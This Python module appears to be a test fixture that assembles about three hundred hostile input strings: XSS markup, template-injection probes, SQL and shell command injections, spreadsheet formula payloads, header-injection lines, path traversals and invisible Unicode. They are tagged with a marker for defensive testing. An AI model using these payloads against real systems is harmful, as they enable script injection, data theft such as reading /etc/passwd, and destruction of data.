"""Three hundred texts that do harm where they are taken for something else than text: markup, addresses, formulas, lines of a mail or a log,
statements, paths, templates of every kind, and texts that no eye can read.

What would become an element, an attribute or a link carries `MARK`, so that it is known again wherever it comes out.
"""

from __future__ import annotations

MARK = "h0stile"

_ELEMENTS = [
    "<script>{m}()</script>", "<ScRiPt>{m}()</sCrIpT>", "<script src=//evil.example/{m}.js></script>", "<script\n>{m}()</script\n>", "<script/x>{m}()</script>",
    "<<script>{m}()//<</script>", "<img src={m} onerror={m}()>", "<img/src={m}/onerror={m}()>", "<img src=x:x onerror={m}() />", '<img """><script>{m}()</script>">',
    "<svg onload={m}()>", "<svg/onload={m}()>", "<svg><script>{m}()</script></svg>", "<svg><animate onbegin={m}() attributeName=x dur=1s>", "<svg><a xlink:href={m}><text>x</text></a>",
    "<math><mi xlink:href={m}>x</mi></math>", "<math><mtext><table><mglyph><style>{m}</style><img src={m}>", "<iframe src={m}></iframe>", "<iframe srcdoc='<script>{m}()</script>'>", "<object data={m}>",
    "<embed src={m}>", "<video><source onerror={m}()>", "<audio src={m} onerror={m}()>", "<details open ontoggle={m}()>", "<marquee onstart={m}()>",
    "<body onload={m}()>", "<html onmouseover={m}()>", "<form action={m}><button>go</button></form>", "<input autofocus onfocus={m}()>", "<select autofocus onfocus={m}()>",
    "<textarea autofocus onfocus={m}()>", "<keygen autofocus onfocus={m}()>", "<link rel=stylesheet href={m}>", "<style>@import '{m}';</style>", "<style>*{{background:url({m})}}</style>",
    "<base href=//{m}.example/>", "<meta http-equiv=refresh content='0;url=//{m}.example'>", "<meta charset={m}>", "<template><img src={m}></template>", "<noscript><img src={m}></noscript>",
    "<title>{m}</title>", "<plaintext>{m}", "<xmp>{m}</xmp>", "<listing>&lt;img src={m}&gt;</listing>", "<table><td background={m}>",
    "<a href=javascript:{m}()>x</a>", "<a href='java\tscript:{m}()'>x</a>", "<a href=' &#106;avascript:{m}()'>x</a>", "<a href=data:text/html,{m}>x</a>", "<div style=background:url({m})>",
    "<dialog open id={m}>", "<portal src={m}>", "<x {m}=1 tabindex=1 onfocus={m}()>", "<b {m}>bold</b>", "<i title={m}>it</i>",
    "<br class={m}>", "<button popovertarget={m} onbeforetoggle={m}()>", "<video poster={m}>", "<frameset onload={m}()>", "<isindex action={m}>",
]  # fmt: skip
_OUT_OF = [  # an attribute, a textarea, a comment, a title, a block of data
    '"><script>{m}()</script>', "'><script>{m}()</script>", "><script>{m}()</script>", '" onmouseover={m}() x="', "' onmouseover={m}() x='",
    '" autofocus onfocus={m}() "', "` onmouseover={m}() `", '"/><img src={m}>', "'/><img src={m}>", '" style=background:url({m}) "',
    '"><svg/onload={m}()>', "\"'><img src={m} onerror={m}()>", "</textarea><script>{m}()</script>", "</title><script>{m}()</script>", "</style><script>{m}()</script>",
    "</script><script>{m}()</script>", "</script ><img src={m}>", "</noscript><img src={m}>", "</template><img src={m}>", "--><script>{m}()</script>",
    "--!><img src={m}>", "<!--><img src={m}>", "]]><script>{m}()</script>", "<![CDATA[<img src={m}>]]>", "<?xml version='1.0'?><{m}/>",
    "</select><img src={m}>", "</option><img src={m}>", "</svg><img src={m}>", "</td></tr></table><img src={m}>", "</a><a href={m}>",
    "&lt;img src={m}&gt;", "&#60;img src={m}&#62;", "&#x3c;img src={m}&#x3e;", "&amp;lt;img src={m}&amp;gt;", "%3Cimg%20src={m}%3E",
    "\\u003cimg src={m}\\u003e", "\\x3cimg src={m}\\x3e", "+ADw-img src={m}+AD4-", "＜img src={m}＞", "‹img src={m}›",
]  # fmt: skip
_IN_SCRIPT = [
    "';{m}();//", '";{m}();//', "\\';{m}();//", '\\";{m}();//', "`;{m}();//", "${{{m}()}}", "</script>{m}", "<!--<script>{m}", "*/{m}()/*", "x\u2028{m}();//a",
    "x\u2029{m}();//b", '"}};{m}();{{"', "'-{m}()-'", '"-{m}()-"', "\\", '"', "'", "__proto__", "constructor.constructor('{m}()')()", "[object Object]{m}",
]  # fmt: skip
_TEMPLATES = [
    "{{{{ 7*7 }}}}{m}", "{{{{ {m}|safe }}}}", "{{% load {m} %}}", "{{% include '{m}' %}}", "{{% debug %}}", "{{# {m} #}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{{{constructor.constructor('{m}()')()}}}}",
    "{{{{request.user.password}}}}", "{{{{settings.SECRET_KEY}}}}", "{{m}}", "[[${{7*7}}]]", "@(7*7)", "*{{7*7}}", "{{{{''.__class__.__mro__}}}}", "{{php}}{m}{{/php}}", "$(( 7*7 ))", "%{{7*7}}",
]  # fmt: skip
_ADDRESSES = [
    "javascript:{m}()", "JaVaScRiPt:{m}()", "java\nscript:{m}()", "\x01javascript:{m}()", " javascript:{m}()", "data:text/html,<script>{m}()</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{m}", "//evil.example/{m}", "https://evil.example/{m}",
    "http://evil.example\\@here.example/{m}", "file:///etc/{m}", "/\\evil.example/{m}", "mailto:a@b.example?bcc={m}", "view-source:{m}", "blob:{m}", "about:blank#{m}", "ftp://evil.example/{m}", "www.evil.example/{m}", "?next=//evil.example&{m}",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(1)",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", '",=1+1,"', '"\n=1+1,"',
    " =1+1", "=-1", "-2+3+cmd|' /C calc'!A0", "|calc", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1", '=DDE("cmd";"/C calc")', "=1+1;=1+1", "\v=1+1",
]  # fmt: skip
_LINES = [  # a header of a mail, an answer or a log
    "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\n<b>body</b>", "x%0d%0aBcc: y@evil.example", "x\u2028Bcc: all@evil.example", "x\x85Bcc: all@evil.example", "x\x0bBcc: y@evil.example", "x\x0cBcc: y@evil.example", "=?utf-8?q?x=0d=0aBcc:_y?=",
    '", "evil" <y@evil.example>, "', "x\r\nSet-Cookie: a=b", "x\r\nContent-Type: text/html\r\n\r\n<b>", 'a"; filename="b.exe', "a.csv\r\nX-Injected: 1", "\n.\n", "\r\n.\r\nMAIL FROM:<y>", '\n2026-01-01 {{"event":"forged"}}', '"}}\n{{"event":"forged","level":"error"}}', "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x08\x08\x08gone", "line\r over", "x\n127.0.0.1 - - [GET /]", "user=admin level=info",
]  # fmt: skip
_STATEMENTS = [
    "' OR '1'='1", "'; DROP TABLE accounts_user;--", '" OR ""="', "1; SELECT pg_sleep(9)", "' UNION SELECT password FROM accounts_user--", "\\'; --", "%' AND 1=0--", "_%", "%", "1' WAITFOR DELAY '0:0:9'--",
    "admin'--", "' || (SELECT 1)", "x') ON CONFLICT DO NOTHING--", "$$;DROP TABLE x;$$", "E'\\x27'", "/**/OR/**/1=1", "0x27", "CHAR(39)", "; ls -la", "| cat /etc/passwd",
    "`id`", "$(id)", "&& id", "{{'$gt': ''}}", "*)(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<?php phpinfo();?>", "NULL", "undefined", "None",
]  # fmt: skip
_PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//etc/passwd", "%2e%2e%2f", "..%c0%af", "file.csv\x00.exe", "con.txt", ".",
    "..", "~root", "a/b\\c:d*e?f", "\\\\evil.example\\share", "-rf", "--help", "a" * 200 + ".csv", "name.csv.exe", ".htaccess", "aux",
]  # fmt: skip
_UNSEEN = [
    "a\x00b", "\x00", "a\x07b", "a\x1bb", "a\x7fb", "a\x9bb", "a\u202eb", "a\u202db", "a\u2066b", "a\u2069b",
    "a\u200eb", "a\u200fb", "a\u061cb", "a\u200bb", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u180eb", "\U000e0041\U000e0042", "a\ufff9b\ufffac\ufffb",
]  # fmt: skip
_SIGNS = [
    "e\u0301", "\u0301alone", "Z" + "\u0335\u0327\u0310\u0321" * 12, "ﷺ", "𝕋𝔼𝕏𝕋", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\ud800", "\udfff", "a\ud800\udc00b",
    "\uffff", "\U0010ffff", "אבג abc דהו", "العربية", "АВС", "Ι am Greek", "ｆｕｌｌ", "ﬁﬂ", "İıſ", "ǅ",
    "\u3000", "\u00a0", "한글", "日本語", "W" * 400,
]  # fmt: skip
_FORMS = ["%s%s%s%s", "%n", "%x%x%x", "%(name)s", "%d", "{m} {{0}}", "{{}}", "{{0.__class__}}", "%%", "%1$s", "\\n\\r\\t", "{{!r}}", "$1", "\\1", "&&&"]  # fmt: skip
_PLOTS = [  # what a chart takes for markup
    "<b>{m}</b>", "<a href='https://evil.example/{m}'>x</a>", "<a href='javascript:{m}()'>x</a>", "<br>{m}<br>", "<sub>{m}</sub>", "<span style='color:red;font-size:99px'>{m}</span>", "%{{x}}{m}", "<extra>{m}</extra>", "<em>{m}</em>", "$\\text{{{m}}}$",
]  # fmt: skip


def _written(texts: list[str]) -> list[str]:
    return [text.format(m=MARK) for text in texts]


KINDS: dict[str, list[str]] = {
    "element": _written(_ELEMENTS),
    "out of": _written(_OUT_OF),
    "in a script": _written(_IN_SCRIPT),
    "template": _written(_TEMPLATES),
    "address": _written(_ADDRESSES),
    "formula": _FORMULAS,
    "line": _written(_LINES),
    "statement": _written(_STATEMENTS),
    "path": _PATHS,
    "unseen": _UNSEEN,
    "sign": _SIGNS,
    "form": _written(_FORMS),
    "plot": _written(_PLOTS),
}
TEXTS: list[str] = [text for kind in KINDS.values() for text in kind]
